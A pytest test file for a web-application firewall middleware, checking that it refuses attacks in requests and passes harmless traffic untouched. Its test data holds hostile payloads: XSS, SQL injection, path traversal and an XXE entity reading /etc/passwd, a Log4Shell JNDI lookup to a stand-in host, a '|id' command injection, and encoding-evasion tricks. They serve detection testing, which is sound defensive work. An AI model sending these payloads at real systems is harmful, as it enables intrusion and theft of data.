"""Validation: an attack is answered in the application's place, and everything else reaches it untouched."""

from __future__ import annotations

import gzip
import json
from contextlib import suppress
from typing import Any
from urllib.parse import quote

import pytest
from anyio import create_task_group
from anyio.lowlevel import checkpoint

from asgi_guard import (
    AttackFound,
    ConfigError,
    Exclusion,
    Guard,
    LimitCrossed,
    Rule,
    Validation,
    ValidationMiddleware,
)
from asgi_guard.errors import MissingExtraError
from asgi_guard.events import RequestRefused, RequestWouldBeRefused
from asgi_guard.testing import Expectations, call, capture_events, check_middleware, lifespan, websocket

pytestmark = pytest.mark.anyio

ATTACK = "<script>steal(1)</script>"
JSON = {"Content-Type": "application/json"}
FORM = {"Content-Type": "application/x-www-form-urlencoded"}
CSP_REPORT = json.dumps([{"type": "csp-violation", "body": {"sample": ATTACK}}])
BINARY = {"Content-Type": "application/octet-stream"}
PARTS = {"Content-Type": "multipart/form-data; boundary=x"}


class Reader:
    """An application that reads its body to the end, and keeps the messages."""

    def __init__(self) -> None:
        self.received: list[Any] = []

    async def __call__(self, scope: Any, receive: Any, send: Any) -> None:
        """Serve one scope."""
        while True:
            message = await receive()
            self.received.append(message)
            if message["type"] != "http.request":
                return
            if not message.get("more_body", False):
                break
        await send({"type": "http.response.start", "status": 200, "headers": []})
        await send({"type": "http.response.body", "body": b"read"})

    @property
    def body(self) -> bytes:
        """What it has read."""
        return b"".join(message.get("body", b"") for message in self.received)


async def echo(scope: Any, receive: Any, send: Any) -> None:
    """Say every message back."""
    await receive()
    await send({"type": "websocket.accept"})
    while (message := await receive())["type"] == "websocket.receive":
        await send({"type": "websocket.send", "text": message["text"]})


def file_and_field(size: int, field: str) -> bytes:
    """Write a multipart body: a file, and a field behind it."""
    return (
        b'--x\r\nContent-Disposition: form-data; name="f"; filename="photo.jpg"\r\n\r\n'
        + b"\xff" * size
        + b'\r\n--x\r\nContent-Disposition: form-data; name="q"\r\n\r\n'
        + field.encode()
        + b"\r\n--x--\r\n"
    )


@pytest.mark.parametrize(
    "request_",
    [
        {"path": "/?q=%3Cscript%3Ealert(1)"},
        {"path": "/?q=1&q=%3Cscript%3Ealert(1)"},
        {"path": "/?%3Cscript%3Ealert(1)=1"},
        {"path": "/", "raw_path": b"/a/..%2f..%2f..%2fetc/passwd"},
        {"headers": {"Cookie": "a=1; b=%3Cscript%3Ealert(1)"}},
        {"headers": {"Referer": "https://www.example.com/?q=%3Cscript%3Ealert(1)"}},
        {"headers": {"X-Filename": ATTACK}},
        {"headers": {"User-Agent": "sqlmap/1.8"}},
        {"headers": {"User-Agent": f"Mozilla/5.0 {ATTACK}"}},
        {"headers": {"Referer": "https://www.example.com/<script>alert(1)"}},
        {"headers": {"X-Forwarded-For": "1' union select name, word from users -- "}},
        {"headers": {"Host": "a' or '1'='1"}},
        {"headers": {"Accept-Language": "${jndi:ldap://x.example/a}"}},
    ],
    ids=str,
)
async def test_an_attack_in_the_head_is_refused(request_: dict[str, Any]) -> None:
    """Before the application runs."""
    app = Reader()

    response = await call(ValidationMiddleware(app), **request_)

    assert response.status == 400
    assert app.received == []


@pytest.mark.parametrize(
    ("headers", "body"),
    [
        (FORM, b"a=1&q=%3Cscript%3Ealert(1)"),
        (JSON, json.dumps({"a": [{"q": ATTACK}]}).encode()),
        (JSON, json.dumps({ATTACK: 1}).encode()),
        (JSON, json.dumps({"sample": ATTACK}).encode()),
        ({"Content-Type": "application/csp-report"}, json.dumps({"csp-report": {"referrer": ATTACK}}).encode()),
        ({}, json.dumps({"q": ATTACK}).encode()),
        ({"Content-Type": "image/png"}, json.dumps({"q": ATTACK}).encode()),
        ({"Content-Type": "application/vnd.api+json"}, json.dumps([ATTACK]).encode()),
        ({}, json.dumps([ATTACK]).encode("utf-16")),
        ({}, (" \n" + json.dumps([ATTACK])).encode("utf-16-be")),
        (BINARY, json.dumps([ATTACK]).encode("utf-32-le")),
        ({}, f"<a>{ATTACK}</a>".encode("utf-16")),
        ({}, f'<?xml version="1.0" encoding="cp037"?><a b="{ATTACK}"/>'.encode("cp037")),
        (BINARY, f'<?xml version="1.0" encoding="utf-7"?><a>{ATTACK}</a>'.replace("<s", "+ADw-s").encode()),
        ({"Content-Type": "application/csp-report"}, json.dumps({"sample": ATTACK}).encode()),
        ({"Content-Type": "application/csp-report"}, json.dumps({"csp-report": {"sample": ATTACK * 4}}).encode()),
        ({"Content-Type": "application/reports+json"}, json.dumps([{"body": {"sample": ATTACK}}]).encode()),
        ({"Content-Type": "application/csp-report"}, CSP_REPORT.replace("violation", "other").encode()),
        ({**BINARY, "Content-Encoding": "gzip"}, gzip.compress(json.dumps([ATTACK]).encode(), mtime=0)),
        (PARTS, file_and_field(10, ATTACK)),
        (PARTS, b'--x\r\nContent-Disposition: form-data; name="a"; filename="<script>alert(1)"\r\n\r\n1\r\n--x--'),
        ({"Content-Type": "text/xml"}, b"<a><![CDATA[<script>steal(1)</script>]]></a>"),
        ({"Content-Type": "text/xml"}, b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
        ({"Content-Type": "text/plain"}, ATTACK.encode()),
        ({}, ATTACK.encode()),
        ({**JSON, "Content-Encoding": "gzip"}, gzip.compress(json.dumps([ATTACK]).encode(), mtime=0)),
        ({"Content-Encoding": "deflate, gzip"}, gzip.compress(gzip.compress(b"x", mtime=0), mtime=0)),
    ],
)
@pytest.mark.parametrize("size", [1, 7, 1_000_000])
async def test_an_attack_in_the_body_is_refused(headers: dict[str, str], body: bytes, size: int) -> None:
    """However it is cut into messages; the application sees that the client has left."""
    app = Reader()
    chunks = [body[at : at + size] for at in range(0, len(body), size)]

    response = await call(ValidationMiddleware(app), "POST", headers=headers, chunks=chunks)

    assert response.status == 400
    assert [message["type"] for message in app.received] == ["http.disconnect"]


@pytest.mark.parametrize(
    ("headers", "body"),
    [
        (FORM, b"a=1&q=a+b"),
        (JSON, b'{"a": "it is fine"}'),
        (
            JSON,
            json.dumps([{"id": number, "name": f"item {number}", "tags": ["a"]} for number in range(4_000)]).encode(),
        ),
        (JSON, b""),
        ({"Content-Type": "application/csp-report"}, json.dumps({"csp-report": {"script-sample": ATTACK}}).encode()),
        ({"Content-Type": "application/reports+json"}, CSP_REPORT.encode()),
        (JSON, b"not json"),
        ({}, b"anything"),
        ({}, b"\x00\x01\x02" * 1_000),
        ({}, bytes(1_000_000)),
        (PARTS, file_and_field(10, "fine")),
        (PARTS, file_and_field(600_000, "fine")),
        ({"Content-Type": "image/png"}, b"\x89PNG" + b"<script>" * 100_000),
        ({"Content-Type": "application/grpc"}, b"\x00\x00\x00\x00\x05hello"),
        (BINARY, b"{" + bytes(range(256)) * 2_000),
        ({"Content-Type": "application/zip"}, b"<\x00" + bytes(range(256)) * 2_000),
        ({**BINARY, "Content-Encoding": "aes128gcm"}, b"{sealed"),
        ({"Content-Type": "application/x-protobuf", "Content-Encoding": "snappy"}, b"\x0a\x02{}"),
        ({"Content-Type": "application/x-protobuf", "Content-Encoding": "zstd"}, b"\x28\xb5\x2f\xfd"),
        (
            {"Content-Type": "application/x-protobuf", "Content-Encoding": "gzip"},
            gzip.compress(b"\x0a\x02" * 300_000, mtime=0),
        ),
        ({"Content-Type": "text/css"}, b"{" + b"".join(b"a%d: b;\n" % number for number in range(200)) + b"}"),
        ({**JSON, "Content-Encoding": "gzip"}, gzip.compress(b'{"a": 1}', mtime=0)),
    ],
)
@pytest.mark.parametrize("size", [50_000, 1_000_000])
async def test_a_harmless_body_reaches_the_application_message_for_message(
    headers: Any, body: bytes, size: int
) -> None:
    """The very messages that the server gave."""
    app = Reader()
    chunks = [body[at : at + size] for at in range(0, len(body), size)] or [b""]

    response = await call(ValidationMiddleware(app), "POST", headers=headers, chunks=chunks)

    assert response.status == 200
    assert [message["body"] for message in app.received] == chunks


@pytest.mark.parametrize("size", [1, 7, 3_000, 1_000_000])
@pytest.mark.parametrize("padding", [0, 10_000])
async def test_a_text_of_an_unknown_type_is_looked_at_while_it_streams(size: int, padding: int) -> None:
    """Nothing is held back for the look, and the last piece is not handed on with an attack in it."""
    app = Reader()
    body = b"lorem ipsum " * (padding // 12) + b"q=" + ATTACK.encode()
    chunks = [body[at : at + size] for at in range(0, len(body), size)]

    response = await call(
        ValidationMiddleware(app), "POST", headers={"Content-Type": "application/x-unheard-of"}, chunks=chunks
    )

    assert response.status == 400
    assert app.received[-1]["type"] == "http.disconnect"
    assert len(app.received) <= len(chunks)


async def test_a_long_text_of_an_unknown_type_is_let_pass_and_told() -> None:
    """Nobody is known to parse it; how much was not looked at is no secret."""
    events = capture_events()
    app = Reader()
    chunks = [b"lorem ipsum " * 1_000] * 30

    response = await call(ValidationMiddleware(app, listeners=[events]), "POST", chunks=chunks)

    assert response.status == 200
    assert app.body == b"".join(chunks)
    assert [(event.limit, event.is_refused) for event in events if isinstance(event, LimitCrossed)] == [
        ("body_bytes", False)
    ]


async def test_a_piece_of_an_upload_may_be_as_long_as_it_is() -> None:
    """It begins anywhere in its file, with a brace say; who uploads a piece is told nothing of a limit."""
    app = Reader()
    headers = {"Content-Type": "application/offset+octet-stream", "Tus-Resumable": "1.0.0"}
    chunks = [b'["lorem ipsum"]\n' * 4_096] * 8

    response = await call(ValidationMiddleware(app), "PATCH", headers=headers, chunks=chunks)

    assert response.status == 200
    assert app.body == b"".join(chunks)


async def test_a_conversation_in_texts_begins() -> None:
    """The application has the first piece before the second one is asked for."""
    seen: list[bytes] = []

    async def answers_at_once(scope: Any, receive: Any, send: Any) -> None:
        seen.append((await receive())["body"])
        await send({"type": "http.response.start", "status": 200, "headers": []})
        await send({"type": "http.response.body", "body": b""})

    messages = [{"type": "http.request", "body": b"first", "more_body": True}]

    assert (await call(ValidationMiddleware(answers_at_once), "POST", incoming=messages)).status == 200
    assert seen == [b"first"]


async def test_an_upload_is_looked_at_while_it_streams() -> None:
    """A field behind a file of any length is found, though the file is neither kept nor waited for."""
    app = Reader()
    body = file_and_field(600_000, ATTACK)

    response = await call(
        ValidationMiddleware(app),
        "POST",
        headers=PARTS,
        chunks=[body[at : at + 65_536] for at in range(0, len(body), 65_536)],
    )

    assert response.status == 400
    assert app.received[-1]["type"] == "http.disconnect"
    assert len(app.received) > 5


async def test_what_nobody_parses_is_not_waited_for() -> None:
    """A stream in both directions, such as gRPC, would never begin."""
    seen: list[int] = []

    async def answers_at_once(scope: Any, receive: Any, send: Any) -> None:
        seen.append(len((await receive())["body"]))
        await send({"type": "http.response.start", "status": 200, "headers": []})
        await send({"type": "http.response.body", "body": b""})

    messages = [{"type": "http.request", "body": b"\x00first", "more_body": True}]
    response = await call(ValidationMiddleware(answers_at_once), "POST", incoming=messages)

    assert response.status == 200
    assert seen == [6]


async def test_a_client_that_leaves_in_the_middle_is_told_to_the_application() -> None:
    """It is no end of the body, and half an attack is none."""
    app = Reader()
    messages = [{"type": "http.request", "body": b'["<scr', "more_body": True}, {"type": "http.disconnect"}]

    with suppress(Exception):  # the application has nobody to answer, and does not
        await call(ValidationMiddleware(app), "POST", headers=JSON, incoming=messages)

    assert [message["type"] for message in app.received] == ["http.request", "http.disconnect"]


@pytest.mark.parametrize(
    ("headers", "body", "settings", "status", "limit"),
    [
        (JSON, b'["' + b"x" * 300_000 + b'"]', {}, 413, "body_bytes"),
        (FORM, b"a=" + b"x" * 2_000, {"max_body_bytes": 1_024}, 413, "body_bytes"),
        (FORM, b"a=1&b=2&c=3", {"max_fields": 2}, 400, "fields"),
        (JSON, b"[[[[]]]]", {"max_depth": 2}, 400, "depth"),
        (JSON, b'["a", "b", "c"]', {"max_leaves": 2}, 413, "leaves"),
        (PARTS, file_and_field(1, "a"), {"max_parts": 1}, 413, "parts"),
        ({"Content-Type": "multipart/form-data"}, b"--x", {}, 400, "boundary"),
        ({**JSON, "Content-Encoding": "gzip"}, gzip.compress(b" " * 300_000 + b"[]", mtime=0), {}, 413, "body_bytes"),
        ({**JSON, "Content-Encoding": "br"}, b"\x1b", {}, 415, "encoding"),
    ],
)
async def test_a_crossed_limit_is_refused_or_flagged(headers, body: bytes, settings, status: int, limit: str) -> None:
    """As the settings say; never passed over in silence."""
    events = capture_events()
    given = {"engine": "re2", **settings} if limit == "body_bytes" else settings
    refusing = ValidationMiddleware(Reader(), Validation(**given), listeners=[events])

    assert (await call(refusing, "POST", headers=headers, body=body)).status == status
    assert [(event.limit, event.is_refused) for event in events if isinstance(event, LimitCrossed)] == [(limit, True)]

    events.clear()
    app = Reader()
    flagging = ValidationMiddleware(app, Validation(on_limit="flag", **given), listeners=[events])

    assert (await call(flagging, "POST", headers=headers, body=body)).status == 200
    assert app.body == body
    assert [(event.limit, event.is_refused) for event in events if isinstance(event, LimitCrossed)] == [(limit, False)]


async def test_what_is_declared_too_large_is_not_read() -> None:
    """The client has not sent it yet."""
    app = Reader()
    headers = {**JSON, "Content-Length": "99999999999999999999999"}

    response = await call(ValidationMiddleware(app), "POST", headers=headers, incoming=[])

    assert response.status == 413


async def test_padding_in_front_of_the_bound_hides_nothing() -> None:
    """What is flagged is looked at as far as it was read."""
    body = json.dumps(["x" * 100_000, ATTACK, "x" * 300_000]).encode()

    response = await call(ValidationMiddleware(Reader(), on_limit="flag"), "POST", headers=JSON, body=body)

    assert response.status == 400


async def test_a_refusal_tells_the_client_nothing() -> None:
    """Neither the rule nor what was sent; the error has its stable code."""
    response = await call(ValidationMiddleware(Reader()), "POST", headers=JSON, body=json.dumps([ATTACK]).encode())

    error = response.json()["error"]
    assert (error["type"], error["code"]) == ("validation", "VALIDATION_REFUSED")
    assert b"script" not in response.body
    assert b"AG-" not in response.body
    assert (await call(ValidationMiddleware(Reader(), status=403), path="/?q=%3Cscript%3Ealert(1)")).status == 403


async def test_an_event_says_where_and_by_which_rule() -> None:
    """Not what it was."""
    events = capture_events()
    await call(ValidationMiddleware(Reader(), listeners=[events]), path="/search?text=%3Cscript%3Ealert(1)")

    attack, refusal = events
    assert isinstance(attack, AttackFound)
    assert (attack.attack, attack.place, attack.name, attack.is_refused) == ("xss", "query", "text", True)
    assert "AG-XSS-001" in attack.rules
    assert attack.score >= 5
    assert isinstance(refusal, RequestRefused)
    assert refusal.code == "VALIDATION_REFUSED"
    assert "script>" not in repr(events)


async def test_a_name_that_is_the_attack_is_not_told() -> None:
    """It would be the payload."""
    events = capture_events()
    await call(ValidationMiddleware(Reader(), listeners=[events]), path="/?%3Cscript%3Ealert(1)=1")

    assert [(event.place, event.name) for event in events if isinstance(event, AttackFound)] == [("name", "")]


async def test_what_an_event_tells_is_printable() -> None:
    """A name, a path and an excerpt move no cursor, end no line, and can be written as JSON and as UTF-8."""
    events = capture_events()
    guarded = ValidationMiddleware(Reader(), excerpts=True, listeners=[events])
    name = "aé" * 60

    body = json.dumps({name: f"\ud800 {ATTACK}\x1b[2J\n"}).encode()
    await call(guarded, "POST", "/a\x1b%C3%A9", headers=JSON, body=body)

    event = next(event for event in events if isinstance(event, AttackFound))
    for told, most in ((event.name, 64), (event.path, 256), (event.excerpt, 80)):
        assert 0 < len(told) <= most
        assert told.isascii()
        assert told.isprintable()
    assert event.name.startswith("a\\xe9a")


async def test_an_excerpt_is_given_on_request_and_redacted() -> None:
    """What a person has written is hidden; what the rule looks for is not."""
    events = capture_events()
    await call(
        ValidationMiddleware(Reader(), excerpts=True, listeners=[events]),
        path="/?q=ann@example.com+%3CScript%3Ealert(1)",
    )

    assert [event.excerpt for event in events if isinstance(event, AttackFound)] == ["xxx@xxxxxxx.xxx <Script>xxxxx(x)"]


async def test_detection_only_tells() -> None:
    """And the application gets everything."""
    events = capture_events()
    app = Reader()
    body = json.dumps([ATTACK]).encode()

    response = await call(ValidationMiddleware(app, mode="detect", listeners=[events]), "POST", headers=JSON, body=body)

    assert response.status == 200
    assert app.body == body
    assert [event.is_refused for event in events if isinstance(event, AttackFound)] == [False]
    assert [event.status for event in events if isinstance(event, RequestWouldBeRefused)] == [400]


@pytest.mark.parametrize(("action", "status", "told"), [("off", 200, 0), ("detect", 200, 1), ("block", 400, 1)])
async def test_a_class_is_off_detected_or_blocked_by_itself(action: Any, status: int, told: int) -> None:
    """The others stay as they are."""
    events = capture_events()
    app = ValidationMiddleware(Reader(), attacks={"xss": action}, listeners=[events])

    assert (await call(app, path="/?q=%3Cscript%3Ealert(1)")).status == status
    assert len([event for event in events if isinstance(event, AttackFound)]) == told
    assert (await call(app, path="/?q=1+union+select+a+from+b")).status == 400


@pytest.mark.parametrize(
    ("exclusion", "status"),
    [
        (Exclusion(paths=["/cms"]), 200),
        (Exclusion(paths=["/cm"]), 400),
        (Exclusion(places=["query"]), 200),
        (Exclusion(places=["body"]), 400),
        (Exclusion(names=["text"]), 200),
        (Exclusion(names=["te*"]), 200),
        (Exclusion(names=["other"]), 400),
        (Exclusion(rules=["xss"]), 200),
        (Exclusion(rules=["sqli"]), 400),
        (Exclusion(paths=["/cms"], places=["query"], names=["text"], rules=["xss"]), 200),
        (Exclusion(paths=["/cms"], places=["query"], names=["text"], rules=["sqli"]), 400),
    ],
)
async def test_an_exclusion_fits_in_every_field_that_it_has(exclusion: Exclusion, status: int) -> None:
    """By path, place, parameter and rule."""
    app = ValidationMiddleware(Reader(), exclude=[exclusion])

    assert (await call(app, path="/cms/page?text=%3Cscript%3Ealert(1)")).status == status


async def test_an_exclusion_of_a_path_is_not_borrowed() -> None:
    """By another spelling, or by a header that was harmless there."""
    app = ValidationMiddleware(Reader(), exclude=[Exclusion(paths=["/cms"])])

    assert (await call(app, path="/cms/../api?text=%3Cscript%3Ealert(1)")).status == 400
    assert (await call(app, path="/cms", headers={"X-Text": ATTACK})).status == 200
    assert (await call(app, path="/api", headers={"X-Text": ATTACK})).status == 400


OWN = Rule(
    id="OWN-ORDERS-001",
    attack="sqli",
    score=5,
    level=1,
    pattern=r"order [0-9]{9} or",
    needs=("order",),
    why="Somebody tries the orders of others.",
    positives=("order 123456789 or 1",),
    negatives=("order 1",),
)


async def test_rules_of_ones_own_are_looked_for_as_well() -> None:
    """Beside those of the package."""
    app = ValidationMiddleware(Reader(), rules=[OWN])

    assert (await call(app, path="/?q=order+987654321+or")).status == 400
    assert (await call(app, path="/?q=%3Cscript%3Ealert(1)")).status == 400
    assert (await call(app, path="/?q=order+1")).status == 200


async def test_a_websocket_handshake_is_looked_at_like_a_get() -> None:
    """It has a path, a query and headers."""
    async with websocket(ValidationMiddleware(echo), "/?q=%3Cscript%3Ealert(1)") as session:
        assert session.denial is not None
        assert session.denial.status == 400


async def test_messages_of_a_websocket_are_looked_at_on_request() -> None:
    """One with an attack closes it; otherwise they are nobody's business."""
    async with websocket(ValidationMiddleware(echo)) as session:
        session.send(ATTACK)
        assert await session.receive() == ATTACK
    for message in (ATTACK, json.dumps({"q": {"$ne": ATTACK}}), "x" * 300_000):
        async with websocket(ValidationMiddleware(echo, websocket_messages=True)) as session:
            session.send("hello")
            assert await session.receive() == "hello"
            session.send(message)
            assert await session.receive() is None
            assert session.close_code == 1008


async def test_the_application_overrides_the_mode_for_one_request() -> None:
    """Or leaves the layer out."""
    path = "/?q=%3Cscript%3Ealert(1)"
    app = ValidationMiddleware(Reader())

    assert (await call(app, path=path, asgi_guard={"validation": {"mode": "detect"}})).status == 200
    assert (await call(app, path=path, asgi_guard={"validation": False})).status == 200
    assert (await call(app, path=path)).status == 400


async def living(scope: Any, receive: Any, send: Any) -> None:
    """Take part in a lifespan."""
    for phase in ("startup", "shutdown"):
        await receive()
        await send({"type": f"lifespan.{phase}.complete"})


async def test_rules_are_compiled_before_a_request_has_to_wait_for_it() -> None:
    """When the lifespan begins, not when the middleware is built; after that, by whoever reconfigures."""
    guard = Guard(living)
    assert not is_ready(guard)

    async with lifespan(guard):
        assert is_ready(guard)

    guard.reconfigure(validation=Validation(level=2))
    assert is_ready(guard)


def is_ready(guard: Guard) -> bool:
    """Tell whether the rules were compiled."""
    return guard.part("validation")._made is not None


async def test_a_guard_that_sees_no_lifespan_is_ready_with_its_first_request() -> None:
    """A mounted one sees none."""
    assert (await call(ValidationMiddleware(Reader()), path="/?q=%3Cscript%3Ealert(1)")).status == 400


async def test_others_run_while_a_long_head_is_looked_at() -> None:
    """As with a body."""
    turns = 0

    async def count() -> None:
        nonlocal turns
        while True:
            await checkpoint()
            turns += 1

    async with create_task_group() as tasks:
        tasks.start_soon(count)
        await checkpoint()
        response = await call(ValidationMiddleware(Reader()), path="/?q=" + "lorem%20ipsum%3B%20" * 2_000)
        tasks.cancel_scope.cancel()

    assert response.status == 200
    assert turns > 5


@pytest.mark.parametrize(
    ("fields", "ids"),
    [
        ({"level": 4, "mode": "blok", "status": 404, "on_limit": "pass"}, {"AG101", "AG105", "AG713"}),
        (
            {"max_body_bytes": 1, "max_fields": 0, "websocket_messages": 1, "engine": "pcre"},
            {"AG101", "AG103", "AG105"},
        ),
        ({"attacks": {"sqli": "of"}}, {"AG710"}),
        ({"attacks": {"sql": "off"}}, {"AG710"}),
        ({"exclude": [Exclusion(rules=["sql"])]}, {"AG709"}),
        ({"exclude": [{"paths": ["/"]}]}, {"AG711"}),
        ({"rules": OWN}, {"AG712"}),
    ],
)
def test_wrong_settings_do_not_start(fields: dict[str, Any], ids: set[str]) -> None:
    """All that is wrong with them is told at once."""
    with pytest.raises(ConfigError) as caught:
        Validation(**fields)

    assert {problem.id for problem in caught.value.problems} == ids


async def test_it_keeps_the_rules() -> None:
    """Every rule of the conformance kit that applies."""

    def attacked(app: Any) -> Any:
        guarded = ValidationMiddleware(app)

        async def attacker(scope: Any, receive: Any, send: Any) -> None:
            await guarded({**scope, "query_string": b"q=%3Cscript%3Ealert(1)"}, receive, send)

        return attacker

    report = await check_middleware(ValidationMiddleware, Expectations(answers_errors=False, refusing=attacked))

    report.raise_for_failures()


async def test_rules_of_ones_own_are_excluded_and_softened_like_others() -> None:
    """By their id, and by their class."""
    for settings in (
        {"exclude": [Exclusion(rules=[OWN.id])]},
        {"exclude": [Exclusion(rules=[OWN.attack])]},
        {"attacks": {OWN.attack: "detect"}},
        {"attacks": {OWN.attack: "off"}},
    ):
        asked = {"path": "/?q=" + quote(OWN.positives[0])}
        assert (await call(ValidationMiddleware(Reader(), rules=[OWN]), **asked)).status == 400
        assert (await call(ValidationMiddleware(Reader(), rules=[OWN], **settings), **asked)).status == 200


def test_an_engine_that_is_not_installed_does_not_start(monkeypatch) -> None:
    """The first request would have been too late."""
    monkeypatch.setattr("asgi_guard.inspection.settings.has_re2", lambda: False)
    with pytest.raises(MissingExtraError, match="re2"):
        Validation(engine="re2")


JSON_ATTACK = b'{"q": "1 union select password from users"}'


@pytest.mark.parametrize(
    ("headers", "body"),
    [
        ([("content-encoding", "identity"), ("content-encoding", "gzip")], gzip.compress(JSON_ATTACK, mtime=0)),
        ([("content-type", "text/css"), ("content-type", "application/json")], JSON_ATTACK),
    ],
    ids=["two encodings", "two types"],
)
async def test_what_two_lines_of_a_header_say_is_not_passed_over(headers, body) -> None:
    """The application may read the other line."""
    headers = headers if len({name for name, _ in headers}) > 1 else [*headers, ("content-length", str(len(body)))]
    response = await call(ValidationMiddleware(Reader()), "POST", headers=headers, chunks=[body])
    assert response.status in {400, 415}


async def test_empty_messages_do_not_carry_a_body_past() -> None:
    """Each counts, so that they are not kept without a bound; what is behind them is not let pass for it."""
    app = ValidationMiddleware(Reader(), max_body_bytes=1_024)
    chunks = [*[b""] * 2_000, JSON_ATTACK]
    response = await call(app, "POST", headers={"content-type": "application/json"}, chunks=chunks)
    assert response.status == 413


async def test_what_was_not_looked_at_is_not_remembered_as_harmless() -> None:
    """Whoever crosses a limit that only flags would let it pass for everybody."""
    app = ValidationMiddleware(Reader(), on_limit="flag", max_fields=10)
    attack = {"x-api": "${jndi:ldap://x.example/a}"}
    cookies = "; ".join(f"c{number}=1" for number in range(20))
    await call(app, headers={"cookie": cookies, **attack})
    assert (await call(app, headers=attack)).status == 400


@pytest.mark.parametrize(("name", "status"), [("user[bio]", 200), ("userb", 400), ("user", 400)])
async def test_brackets_in_a_name_that_is_excluded_are_brackets(name, status) -> None:
    """Many frameworks write their parameters so; only a star stands for anything."""
    app = ValidationMiddleware(Reader(), exclude=[Exclusion(names=["user[bio]"])])
    response = await call(app, path=f"/?{quote(name)}={quote('1 union select password from users')}")
    assert response.status == status


async def test_what_stands_inside_of_a_parameter_is_excluded_by_the_name_of_the_parameter() -> None:
    """A client names what is inside, and would exclude whatever it likes."""
    inner = quote('{"comment": "1 union select password from users"}')
    by_inner, by_outer = (
        ValidationMiddleware(Reader(), exclude=[Exclusion(names=[name])]) for name in ("comment", "q")
    )
    assert (await call(by_inner, path=f"/?q={inner}")).status == 400
    assert (await call(by_outer, path=f"/?q={inner}")).status == 200


@pytest.mark.parametrize(
    "value",
    [
        '{"a": "|id"}',
        ' \n{"a": "|id"}',
        json.dumps(json.dumps({"a": "|id"})),
        json.dumps({"a": json.dumps({"b": json.dumps({"c": "|id"})})}),
        json.dumps({"z": "a" * 20_000, "a": "|id"}),
    ],
    ids=["as it is", "behind blanks", "a string of it", "three of them", "a long one"],
)
async def test_json_inside_of_a_value_is_taken_apart(value) -> None:
    """As an application does; what is found only alone is found there."""
    body = f"q={quote(value)}".encode()
    headers = {"content-type": "application/x-www-form-urlencoded"}
    assert (await call(ValidationMiddleware(Reader()), "POST", headers=headers, chunks=[body])).status == 400


async def test_more_json_inside_of_a_value_than_is_looked_at_is_told() -> None:
    """It is no place to hide behind."""
    body = f"q={quote(json.dumps(['x'] * 17_000, separators=(',', ':')))}".encode()
    headers = {"content-type": "application/x-www-form-urlencoded"}
    assert (await call(ValidationMiddleware(Reader()), "POST", headers=headers, chunks=[body])).status == 413


async def test_a_body_that_says_it_is_not_encoded_is_like_one_that_says_nothing() -> None:
    """Uploads of any size pass."""
    headers = {"content-type": "application/octet-stream", "content-encoding": "identity"}
    assert (await call(ValidationMiddleware(Reader()), "POST", headers=headers, chunks=[b"x" * 300_000])).status == 200


@pytest.mark.parametrize(
    "disposition",
    ['form-data; name="id"; x=";name=comment;"', 'form-data; name="id"; name*=comment', 'form-data; name="id"'],
)
async def test_an_exclusion_goes_by_the_name_that_every_parser_reads(disposition) -> None:
    """And never by one that stands inside of another parameter."""
    guarded = ValidationMiddleware(echo, exclude=[Exclusion(names=["comment"])])
    body = f"--B\r\nContent-Disposition: {disposition}\r\n\r\n<script>alert(1)</script>\r\n--B--\r\n".encode()
    headers = {"Content-Type": "multipart/form-data; boundary=B", "Content-Length": str(len(body))}

    assert (await call(guarded, "POST", headers=headers, body=body)).status == 400
